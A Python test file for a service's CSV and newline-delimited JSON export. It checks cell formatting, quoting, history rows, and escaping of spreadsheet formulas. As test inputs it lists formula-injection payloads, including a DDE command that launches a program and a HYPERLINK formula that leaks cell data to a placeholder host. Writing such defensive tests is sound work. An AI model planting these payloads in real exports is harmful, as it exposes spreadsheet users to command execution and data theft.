"""Rows as pure functions: what a cell of CSV holds, what a spreadsheet would calculate, and one document a line."""

import csv
import io
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.http.ndjson import NewlineDelimited
from service.http.tables import HISTORY, Table, incidents, plain
from service.http.tabular import BOM, CommaSeparated, cell

TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
VALUES = (
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.floats(allow_nan=False, allow_infinity=False) | TEXTS
)
SIGNS = set("=+-@\uff1d\uff0b\uff0d\uff20")
BREAKS = set("\t\r\n")
PASSED_OVER = "".join(filter(str.isspace, map(chr, range(0x10000)))) + "\0\u200b\u200c\u200d\u200e\u200f\u2060\ufeff"


def written(table: Table, *documents: Any, bom: bool = False) -> bytes:
    lines = CommaSeparated(table, bom=bom)
    return lines.head + lines.lines([orjson.dumps(document) for document in documents])


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def is_formula(text: str) -> bool:
    """Whether some spreadsheet would calculate it, or takes what it begins with for the end of a cell."""
    return text[:1] in BREAKS or text.lstrip(PASSED_OVER)[:1] in SIGNS


def without_apostrophe(text: str) -> str:
    """What it was before."""
    return text[1:] if text.startswith("'") and is_formula(text.lstrip("'")) else text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-5, "-5"),
        (2**53, "9007199254740992"),
        (-5.5, "-5.5"),
        (1e-7, "1e-7"),
        ("Zürich – 東京 🔥", "Zürich – 東京 🔥"),
        ({"a": [1, None]}, '{"a":[1,null]}'),
        (["name"], '["name"]'),
    ],
)
def test_given_a_value_then_its_cell_is_what_json_says_and_null_is_empty(value: Any, expected: str) -> None:
    assert cell(value) == expected


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://x.example?"&A1)',
        "=cmd|' /C calc'!A0",
        "-5",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tharmless",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u3000\uff1d1\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "'=1+1",
    ],
)
def test_given_a_text_that_a_spreadsheet_would_calculate_then_it_begins_with_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["a=1", "1-1", "'tis", "''", "2024-11-11T10:57:27+08:00", "(=1)", ";=1", "", " "])
def test_given_any_other_text_then_it_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


@given(TEXTS)
def test_whatever_is_written_no_cell_is_a_formula_and_the_text_can_be_had_back(text: str) -> None:
    shown = cell(text)
    assert not is_formula(shown)
    assert without_apostrophe(shown) == text


@given(st.lists(st.tuples(VALUES, TEXTS), min_size=1), st.booleans())
def test_whatever_is_written_it_is_read_back_as_rfc_4180_has_it(rows: list[tuple[Any, str]], bom: bool) -> None:
    table = plain("any", "first", "second")
    content = written(table, *({"first": first, "second": second} for first, second in rows), bom=bom)
    assert content.startswith(BOM) is bom
    assert content.endswith(b"\r\n")
    assert read(content) == [["first", "second"], *([cell(first), cell(second)] for first, second in rows)]


def test_given_commas_quotes_and_breaks_then_they_are_quoted_and_lines_end_with_crlf() -> None:
    table = plain("any", "first", "second")
    content = written(table, {"first": 'a "b", c', "second": "d\ne\rf\r\ng"}, {"first": "h", "second": None})
    assert content == b'first,second\r\n"a ""b"", c","d\ne\rf\r\ng"\r\nh,\r\n'


def test_given_attributes_then_each_has_its_column_and_what_has_none_is_kept_beside_them() -> None:
    table = incidents(["count", "workflowId"])
    assert table.columns[-3:] == ("attributes", "attributes.count", "attributes.workflowId")
    document = dict.fromkeys(table.columns[:-3])
    (none,) = table.rows({**document, "attributes": None})
    (some,) = table.rows({**document, "attributes": {"count": -5, "gone": "x"}})
    assert list(none)[-3:] == [None, None, None]
    assert list(some)[-3:] == [{"gone": "x"}, -5, None]


def test_given_a_change_then_it_has_a_row_for_each_field_and_one_where_it_has_none() -> None:
    edit = {
        "position": 7, "occ_lock": 2, "at": "2026-11-30T00:00:00.000000Z", "by": "Ann", "user_id": "ann",
        "what": "ims.incident.edited",
        "changes": {"severity": {"from": "", "to": "HIGH"}, "attributes.count": {"from": 5, "to": None}},
    }  # fmt: skip
    erased = {"position": 8, "occ_lock": 3, "at": "2026-11-30T00:00:01.000000Z", "what": "x", "erased": True}
    head, *rows = read(written(HISTORY, edit, erased))
    told = [dict(zip(head, row, strict=True)) for row in rows]
    assert [(row["position"], row["field"], row["from"], row["to"]) for row in told] == [
        ("7", "severity", "", "HIGH"), ("7", "attributes.count", "5", ""), ("8", "", "", ""),
    ]  # fmt: skip
    assert [row["by"] for row in told] == ["Ann", "Ann", ""]
    assert [row["erased"] for row in told] == ["", "", "true"]


@given(st.lists(st.dictionaries(TEXTS, VALUES | st.lists(TEXTS))))
def test_whatever_is_written_each_line_is_one_document_for_every_way_to_split_lines(documents: list[Any]) -> None:
    content = NewlineDelimited().lines([orjson.dumps(document) for document in documents])
    lines = content.decode().splitlines()
    assert [orjson.loads(line) for line in lines] == documents
    assert content.split(b"\n")[:-1] == [line.encode() for line in lines]
